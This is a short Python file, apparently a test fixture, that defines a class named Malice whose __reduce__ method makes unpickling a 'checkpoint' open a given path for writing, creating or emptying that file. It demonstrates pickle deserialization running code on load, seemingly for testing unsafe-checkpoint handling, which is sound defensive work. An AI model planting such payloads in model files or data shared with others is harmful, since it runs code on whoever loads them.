"""A checkpoint that runs code when it is opened."""


class Malice:
    """Makes a file when it is unpickled the ordinary way."""

    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return (open, (str(self.path), "w"))
